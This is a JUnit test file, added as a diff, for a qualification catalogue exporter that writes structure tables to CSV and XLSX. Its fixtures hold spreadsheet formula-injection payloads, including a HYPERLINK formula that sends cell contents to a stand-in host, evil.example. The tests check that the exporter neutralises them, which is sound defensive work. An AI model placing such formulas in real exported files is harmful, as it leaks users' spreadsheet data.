@@ -1,0 +1,335 @@
+package io.qualspec.generators.tests;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertNotNull;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.io.ByteArrayInputStream;
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.StringReader;
+import java.io.StringWriter;
+import java.nio.charset.StandardCharsets;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+import java.util.regex.Matcher;
+import java.util.regex.Pattern;
+import java.util.zip.ZipEntry;
+import java.util.zip.ZipInputStream;
+
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVParser;
+import org.apache.commons.csv.CSVRecord;
+import org.apache.poi.ss.usermodel.Cell;
+import org.apache.poi.ss.usermodel.CellType;
+import org.apache.poi.ss.usermodel.Row;
+import org.apache.poi.ss.usermodel.Sheet;
+import org.apache.poi.xssf.usermodel.XSSFWorkbook;
+import org.junit.jupiter.api.Test;
+
+import io.qualspec.catalogue.Catalogue;
+import io.qualspec.catalogue.ResolvedQualification;
+import io.qualspec.generators.tables.StructureTables;
+
+/**
+ * Structure tables as CSV and XLSX, read back with Commons CSV and POI: the SFJ structure, the whole
+ * catalogue, numbers as numbers, and text that would start a spreadsheet formula kept as text.
+ */
+class StructureTablesTest {
+
+	/** Titles, sector codes, references and labels a spreadsheet would read as formulas. */
+	private static final String INJECTION = """
+			use evil.units
+			awarding organisation EVIL "Evil Awards" { }
+			unit library evil.units "Units with hostile titles" {
+				unit A/506/2130 "=HYPERLINK(\\"http://evil.example/?leak=\\"&A1,\\"Click me\\")" { level 2 credits 5 glh 27 assessment internal }
+				unit F/506/2131 "+1" { level 2 credits 2 glh 17 }
+				unit M/617/4417 "-2" { level 2 credits 3 glh 22 }
+				unit L/506/1788 "@SUM(A1)" { level 2 credits 4 glh 18 }
+				unit D/506/2119 "\\tTabbed" { level entry credits 1 glh 10 }
+				unit T/506/2126 "\\rReturn" { level 1 credits 1 glh 10 }
+				unit T/617/4418 "A title with = inside" { level 3 credits 1 glh 10 }
+			}
+			qualification 603/4767/3 "Hostile qualification" {
+				awarded by EVIL
+				group A "-Mandatory" mandatory {
+					unit 1 = A/506/2130 reference "=2+3" sector "@A1"
+					unit 2 = F/506/2131 reference "+44 114 284 1970"
+					unit 3 = M/617/4417
+					unit 4 = L/506/1788
+				}
+				group B "Optional" optional {
+					unit 5 = D/506/2119
+					unit 6 = T/506/2126
+					unit 7 = T/617/4418
+				}
+			}
+			""";
+
+	private static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")", "+1",
+			"-2", "@SUM(A1)", "\tTabbed", "\rReturn");
+
+	// ------------------------------------------------------------------------------------------ CSV
+
+	@Test
+	void theSfjStructureAsCsv() throws IOException {
+		ResolvedQualification sfj = ExportFixtures.qualification(ExportFixtures.SFJ);
+		StringWriter out = new StringWriter();
+		StructureTables.writeCsv(sfj, out);
+		String csv = out.toString();
+		assertTrue(csv.startsWith("QN,Group,Group label,Group kind,Unit no,Sector code,AO reference,URN,Title,Credits,Level,GLH,Assessment\r\n"),
+				"RFC 4180: CRLF line ends");
+		List<CSVRecord> records = parse(csv);
+		assertEquals(23, records.size());
+		CSVRecord first = records.get(0);
+		assertEquals(List.of("603/4767/3", "A", "Mandatory Group A", "mandatory", "", "", "882", "A/506/2130",
+				"Deliver customer service", "5", "2", "27", "Internal"), first.toList());
+		assertEquals(14, records.stream().filter(r -> r.get("Group").equals("A")).mapToInt(r -> Integer.parseInt(r.get("Credits"))).sum());
+		assertEquals(List.of("A", "B"), records.stream().map(r -> r.get("Group")).distinct().toList());
+		assertEquals(StructureTables.STRUCTURE_COLUMNS, header(csv));
+	}
+
+	@Test
+	void theCatalogueAsCsv() throws IOException {
+		Catalogue catalogue = ExportFixtures.examples();
+		StringWriter structure = new StringWriter();
+		StructureTables.writeCsv(catalogue, structure);
+		List<CSVRecord> rows = parse(structure.toString());
+		assertEquals(catalogue.qualifications().stream().mapToInt(q -> q.memberships().size()).sum(), rows.size());
+		assertEquals(11, rows.stream().map(r -> r.get("QN")).distinct().count());
+		// a Cambridge Technical unit: no group, no credits, no level
+		CSVRecord ct = rows.stream().filter(r -> r.get("URN").equals("R/615/5441")).findFirst().orElseThrow();
+		assertEquals(List.of("603/2730/3", "", "", "", "1", "", "", "R/615/5441",
+				"Principles of working in service sector organisations", "", "", "60", "External"), ct.toList());
+		// contact centre tables print sector unit numbers
+		assertTrue(rows.stream().anyMatch(r -> r.get("QN").equals("600/2336/3") && r.get("Sector code").equals("CS A1")));
+
+		StringWriter units = new StringWriter();
+		StructureTables.writeUnitsCsv(catalogue, units);
+		List<CSVRecord> unitRows = parse(units.toString());
+		assertEquals(catalogue.units().size(), unitRows.size());
+		assertEquals(StructureTables.UNIT_COLUMNS, header(units.toString()));
+		CSVRecord deliver = unitRows.stream()
+				.filter(r -> r.get("URN").equals("A/506/2130") && r.get("Library").equals("cfa.customerservice")).findFirst()
+				.orElseThrow();
+		assertEquals("5", deliver.get("Learning outcomes"));
+		assertEquals("20", deliver.get("Assessment criteria"));
+		assertTrue(deliver.get("Qualifications").contains("603/4767/3"), deliver.get("Qualifications"));
+	}
+
+	@Test
+	void textThatWouldStartAFormulaGetsAnApostropheInCsv() throws IOException {
+		ResolvedQualification hostile = hostile();
+		StringWriter out = new StringWriter();
+		StructureTables.writeCsv(hostile, out);
+		List<CSVRecord> rows = parse(out.toString());
+		assertEquals(7, rows.size());
+		List<String> titles = rows.stream().map(r -> r.get("Title")).toList();
+		for (int i = 0; i < HOSTILE.size(); i++) {
+			assertEquals("'" + HOSTILE.get(i), titles.get(i));
+		}
+		assertEquals("A title with = inside", titles.get(6));
+		assertEquals("'-Mandatory", rows.get(0).get("Group label"));
+		assertEquals("'=2+3", rows.get(0).get("AO reference"));
+		assertEquals("'@A1", rows.get(0).get("Sector code"));
+		assertEquals("'+44 114 284 1970", rows.get(1).get("AO reference"));
+		// numbers are not text: no apostrophe
+		assertEquals(List.of("5", "2", "3", "4", "1", "1", "1"), rows.stream().map(r -> r.get("Credits")).toList());
+		assertEquals("Entry", rows.get(4).get("Level"));
+
+		StringWriter units = new StringWriter();
+		StructureTables.writeUnitsCsv(hostile, units);
+		assertEquals("'" + HOSTILE.get(0), parse(units.toString()).get(0).get("Title"));
+
+		assertEquals("'-2", StructureTables.csvText("-2"));
+		assertEquals("'@x", StructureTables.csvText("@x"));
+		assertEquals("'\t", StructureTables.csvText("\t"));
+		assertEquals("2", StructureTables.csvText("2"));
+		assertEquals("", StructureTables.csvText(""));
+		assertEquals(" =1", StructureTables.csvText(" =1"));
+	}
+
+	// ------------------------------------------------------------------------------------------ XLSX
+
+	@Test
+	void theSfjWorkbookRoundTrips() throws IOException {
+		ResolvedQualification sfj = ExportFixtures.qualification(ExportFixtures.SFJ);
+		try (XSSFWorkbook workbook = xlsx(sfj)) {
+			assertEquals(2, workbook.getNumberOfSheets());
+			Sheet structure = workbook.getSheet(StructureTables.STRUCTURE_SHEET);
+			Sheet units = workbook.getSheet(StructureTables.UNITS_SHEET);
+			assertNotNull(structure);
+			assertNotNull(units);
+
+			Row header = structure.getRow(0);
+			assertEquals(StructureTables.STRUCTURE_COLUMNS, strings(header));
+			assertTrue(workbook.getFontAt(header.getCell(0).getCellStyle().getFontIndex()).getBold(), "bold header");
+			// the header row is frozen (read from the sheet's XML: the API's PaneInformation is in a package this
+			// bundle does not import)
+			String sheetXml = part(xlsxBytes(sfj), "xl/worksheets/sheet1.xml");
+			Matcher pane = Pattern.compile("<pane [^>]*>").matcher(sheetXml);
+			assertTrue(pane.find(), "a pane");
+			assertTrue(pane.group().contains("ySplit=\"1.0\"") && pane.group().contains("state=\"frozen\"")
+					&& pane.group().contains("topLeftCell=\"A2\"") && !pane.group().contains("xSplit=\"1"), pane.group());
+			assertTrue(sheetXml.contains("<autoFilter ref=\"A1:M24\"/>"), "a filter on the header");
+			int titleColumn = StructureTables.STRUCTURE_COLUMNS.indexOf("Title");
+			assertTrue(structure.getColumnWidth(titleColumn) > structure.getColumnWidth(0), "widths follow the content");
+
+			assertEquals(23, structure.getLastRowNum());
+			Row first = structure.getRow(1);
+			assertEquals("A/506/2130", first.getCell(StructureTables.STRUCTURE_COLUMNS.indexOf("URN")).getStringCellValue());
+			assertEquals("Deliver customer service", first.getCell(titleColumn).getStringCellValue());
+			for (String numeric : List.of("Credits", "Level", "GLH")) {
+				Cell cell = first.getCell(StructureTables.STRUCTURE_COLUMNS.indexOf(numeric));
+				assertEquals(CellType.NUMERIC, cell.getCellType(), numeric);
+			}
+			assertEquals(5, first.getCell(StructureTables.STRUCTURE_COLUMNS.indexOf("Credits")).getNumericCellValue());
+			assertEquals(CellType.STRING, first.getCell(StructureTables.STRUCTURE_COLUMNS.indexOf("AO reference")).getCellType(),
+					"a reference of digits stays text");
+			// the same rows as the CSV
+			StringWriter csv = new StringWriter();
+			StructureTables.writeCsv(sfj, csv);
+			List<CSVRecord> records = parse(csv.toString());
+			for (int r = 0; r < records.size(); r++) {
+				assertEquals(records.get(r).toList(), cellTexts(structure.getRow(r + 1), StructureTables.STRUCTURE_COLUMNS.size()));
+			}
+
+			assertEquals(StructureTables.UNIT_COLUMNS, strings(units.getRow(0)));
+			assertEquals(23, units.getLastRowNum());
+			assertEquals(20, units.getRow(1).getCell(StructureTables.UNIT_COLUMNS.indexOf("Assessment criteria")).getNumericCellValue());
+		}
+	}
+
+	@Test
+	void theCatalogueWorkbook() throws IOException {
+		Catalogue catalogue = ExportFixtures.examples();
+		ByteArrayOutputStream out = new ByteArrayOutputStream();
+		StructureTables.writeXlsx(catalogue, out);
+		try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
+			assertEquals(catalogue.qualifications().stream().mapToInt(q -> q.memberships().size()).sum(),
+					workbook.getSheet(StructureTables.STRUCTURE_SHEET).getLastRowNum());
+			assertEquals(catalogue.units().size(), workbook.getSheet(StructureTables.UNITS_SHEET).getLastRowNum());
+			assertNoFormulas(workbook);
+		}
+	}
+
+	@Test
+	void textThatWouldStartAFormulaStaysTextInXlsx() throws IOException {
+		try (XSSFWorkbook workbook = xlsx(hostile())) {
+			assertNoFormulas(workbook);
+			Sheet structure = workbook.getSheet(StructureTables.STRUCTURE_SHEET);
+			int title = StructureTables.STRUCTURE_COLUMNS.indexOf("Title");
+			for (int i = 0; i < HOSTILE.size(); i++) {
+				Cell cell = structure.getRow(i + 1).getCell(title);
+				assertEquals(CellType.STRING, cell.getCellType());
+				assertEquals(HOSTILE.get(i), cell.getStringCellValue(), "the value itself is unchanged");
+				assertTrue(cell.getCellStyle().getQuotePrefixed(), "shown and edited as text: " + HOSTILE.get(i));
+			}
+			Cell plain = structure.getRow(7).getCell(title);
+			assertEquals("A title with = inside", plain.getStringCellValue());
+			assertFalse(plain.getCellStyle().getQuotePrefixed());
+			Row first = structure.getRow(1);
+			for (Map.Entry<String, String> expected : Map.of("Group label", "-Mandatory", "AO reference", "=2+3",
+					"Sector code", "@A1").entrySet()) {
+				Cell cell = first.getCell(StructureTables.STRUCTURE_COLUMNS.indexOf(expected.getKey()));
+				assertEquals(CellType.STRING, cell.getCellType());
+				assertEquals(expected.getValue(), cell.getStringCellValue());
+				assertTrue(cell.getCellStyle().getQuotePrefixed());
+			}
+			Cell credits = first.getCell(StructureTables.STRUCTURE_COLUMNS.indexOf("Credits"));
+			assertEquals(CellType.NUMERIC, credits.getCellType());
+			assertEquals(5, credits.getNumericCellValue());
+			assertEquals("Entry", structure.getRow(5).getCell(StructureTables.STRUCTURE_COLUMNS.indexOf("Level")).getStringCellValue());
+
+			Cell unitTitle = workbook.getSheet(StructureTables.UNITS_SHEET).getRow(1)
+					.getCell(StructureTables.UNIT_COLUMNS.indexOf("Title"));
+			assertEquals(CellType.STRING, unitTitle.getCellType());
+			assertEquals(HOSTILE.get(0), unitTitle.getStringCellValue());
+		}
+	}
+
+	// ------------------------------------------------------------------------------------------ helpers
+
+	private static ResolvedQualification hostile() {
+		Catalogue catalogue = ExportFixtures.loadText(INJECTION);
+		ResolvedQualification qualification = catalogue.qualifications().get(0);
+		assertEquals(7, qualification.memberships().size());
+		qualification.memberships().forEach(m -> assertNotNull(m.unit(), "every unit resolves"));
+		assertEquals(HOSTILE.get(0), qualification.memberships().get(0).unit().title());
+		return qualification;
+	}
+
+	private static List<CSVRecord> parse(String csv) throws IOException {
+		CSVFormat format = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get();
+		try (CSVParser parser = CSVParser.parse(new StringReader(csv), format)) {
+			return parser.getRecords();
+		}
+	}
+
+	private static List<String> header(String csv) throws IOException {
+		CSVFormat format = CSVFormat.RFC4180.builder().setHeader().get();
+		try (CSVParser parser = CSVParser.parse(new StringReader(csv), format)) {
+			return parser.getHeaderNames();
+		}
+	}
+
+	private static byte[] xlsxBytes(ResolvedQualification qualification) throws IOException {
+		ByteArrayOutputStream out = new ByteArrayOutputStream();
+		StructureTables.writeXlsx(qualification, out);
+		return out.toByteArray();
+	}
+
+	private static XSSFWorkbook xlsx(ResolvedQualification qualification) throws IOException {
+		return new XSSFWorkbook(new ByteArrayInputStream(xlsxBytes(qualification)));
+	}
+
+	/** A part of an OOXML package as text. */
+	private static String part(byte[] zipped, String name) throws IOException {
+		try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(zipped))) {
+			for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
+				if (entry.getName().equals(name)) {
+					return new String(zip.readAllBytes(), StandardCharsets.UTF_8);
+				}
+			}
+		}
+		throw new AssertionError("no " + name);
+	}
+
+	private static void assertNoFormulas(XSSFWorkbook workbook) {
+		for (Sheet sheet : workbook) {
+			for (Row row : sheet) {
+				for (Cell cell : row) {
+					assertTrue(cell.getCellType() == CellType.STRING || cell.getCellType() == CellType.NUMERIC,
+							() -> sheet.getSheetName() + " row " + cell.getRowIndex() + " column " + cell.getColumnIndex()
+									+ " is " + cell.getCellType());
+				}
+			}
+		}
+	}
+
+	private static List<String> strings(Row row) {
+		List<String> values = new ArrayList<>();
+		for (Cell cell : row) {
+			values.add(cell.getStringCellValue());
+		}
+		return values;
+	}
+
+	/** A row as the CSV writes it: numbers as integers, text with the CSV's apostrophe, blanks empty. */
+	private static List<String> cellTexts(Row row, int columns) {
+		List<String> values = new ArrayList<>();
+		for (int c = 0; c < columns; c++) {
+			Cell cell = row.getCell(c);
+			if (cell == null) {
+				values.add("");
+			} else if (cell.getCellType() == CellType.NUMERIC) {
+				values.add(String.valueOf((long) cell.getNumericCellValue()));
+			} else {
+				values.add(StructureTables.csvText(cell.getStringCellValue()));
+			}
+		}
+		return values;
+	}
+}
